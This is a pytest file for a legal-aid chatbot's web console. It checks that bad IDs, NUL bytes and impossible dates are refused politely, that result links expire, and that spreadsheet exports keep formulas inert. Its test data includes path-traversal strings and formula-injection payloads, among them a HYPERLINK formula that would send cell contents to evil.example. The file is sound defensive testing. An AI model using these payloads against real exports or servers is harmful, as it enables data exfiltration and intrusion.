"""Bad input gets a 4xx or a polite page, never a 500 (issue 11 item 5, outside the webhook);
links expire and open only their own page; exported spreadsheets never run formulas."""
from __future__ import annotations

import io
import uuid

import pytest

from handoff_helpers import PASSWORD, csrf_token, login


def _no_trace(resp) -> None:
    body = resp.get_data(as_text=True)
    assert "Traceback" not in body and 'File "' not in body


@pytest.mark.parametrize("path", ["/faq/" + "x" * 300, "/faq/a%27b", "/faq/a%20b", "/faq/..%2f..%2fetc"])
def test_bad_faq_ids_are_not_found(client, path):
    resp = client.get(path)
    assert resp.status_code == 404
    _no_trace(resp)


def test_a_real_faq_page_still_opens(client):
    assert client.get("/faq/labor-wages-01").status_code == 200


def test_nul_bytes_in_parameters_are_a_polite_400(client):
    for path in ("/faq/labor-wages-01%00", "/faq/%00", "/console/login?next=%00", "/h5/apply/x%00y", "/result/%00"):
        resp = client.get(path)
        assert resp.status_code == 400, path
        assert "无效字符" in resp.get_data(as_text=True)


def _admin(app) -> str:
    from handoff.accounts import create_user

    with app.extensions["fayuan_db"].session() as s:
        return create_user(s, f"adm-{uuid.uuid4().hex[:8]}", PASSWORD, "admin").username


def test_console_search_with_nul_is_400_not_500(app):
    c = app.test_client()
    login(c, _admin(app))
    resp = c.get("/console/", query_string={"q": "张\x00三"})
    assert resp.status_code == 400


@pytest.mark.parametrize("value", ["abc", "", "-1", "99999999999999999999"])
def test_console_user_toggle_with_a_bad_id_is_refused_politely(app, value):
    c = app.test_client()
    login(c, _admin(app))
    page = c.get("/console/users").get_data(as_text=True)
    resp = c.post("/console/users", data={"csrf_token": csrf_token(page), "action": "toggle", "user_id": value})
    assert resp.status_code == 200 and "没有这个用户" in resp.get_data(as_text=True)


@pytest.mark.parametrize("month", ["0001-01", "9999-12", "2026-13", "abc"])
def test_monthly_report_with_an_impossible_month_is_400(app, month):
    c = app.test_client()
    login(c, _admin(app))
    resp = c.get("/console/stats/report.xlsx", query_string={"month": month})
    assert resp.status_code == 400 and "月份" in resp.get_data(as_text=True)


def test_dashboard_with_an_impossible_range_falls_back(app):
    c = app.test_client()
    login(c, _admin(app))
    resp = c.get("/console/stats/", query_string={"start": "0001-01-01", "end": "0001-01-31"})
    assert resp.status_code == 200


def test_kb_restore_with_a_non_numeric_version_is_400(app):
    c = app.test_client()
    login(c, _admin(app))
    page = c.get("/console/kb/versions/1/restore").get_data(as_text=True)
    resp = c.post("/console/kb/versions/1/restore", data={"csrf_token": csrf_token(page), "version": "abc",
                                                          "message": "x", "confirm": "1"})
    assert resp.status_code == 400


# ------------------------------------------------------------------ links

def test_result_links_expire(app, client, monkeypatch):
    from bot import result_view
    from bot.conversation import EligibilityRecord

    with app.extensions["fayuan_db"].session() as s:
        rec = EligibilityRecord(user_id="o" + uuid.uuid4().hex[:12], matter="labor.wages", region="石狮市",
                                decision="eligible", facts={"matter": "labor.wages"},
                                result={"decision": "eligible", "reasons": [], "materials": []})
        s.add(rec)
        s.flush()
        rid = rec.id
    token = result_view.result_token("test-secret", rid)
    assert client.get(f"/result/{token}").status_code == 200
    monkeypatch.setattr(result_view, "RESULT_LINK_MAX_AGE", -1)
    monkeypatch.setattr(result_view.record_id_from_token, "__defaults__", (-1,))
    expired = client.get(f"/result/{token}")
    assert expired.status_code == 410 and "过期" in expired.get_data(as_text=True)
    assert client.get("/result/forged.token").status_code == 404


# ------------------------------------------------------------------ spreadsheets

def test_formula_like_cells_are_exported_as_text(tmp_path):
    from openpyxl import load_workbook

    from knowledge_base.content import KbContent
    from knowledge_base.content_files import load_faq, load_taxonomy
    from knowledge_base.exchange import read_xlsx, write_xlsx

    entries = [dict(e) for e in load_faq()[:3]]
    payloads = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A2)"]
    entries[0]["short_answer"] = payloads[0]
    entries[1]["short_answer"] = payloads[1]
    entries[2]["short_answer"] = payloads[2]
    entries[2]["full_answer"] = payloads[3]
    data = write_xlsx(KbContent(entries=tuple(entries)))
    ws = load_workbook(io.BytesIO(data))["条目"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in payloads:
        assert text in cells, text
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    back = read_xlsx(data, load_taxonomy())
    assert [e["short_answer"] for e in back.entries[:3]] == payloads[:3]


def test_nul_bytes_in_json_bodies_are_400(client):
    resp = client.post("/simulator/api/send", json={"user": "tester123", "text": "张\x00三"})
    assert resp.status_code == 400 and "无效字符" in resp.get_json()["error"]
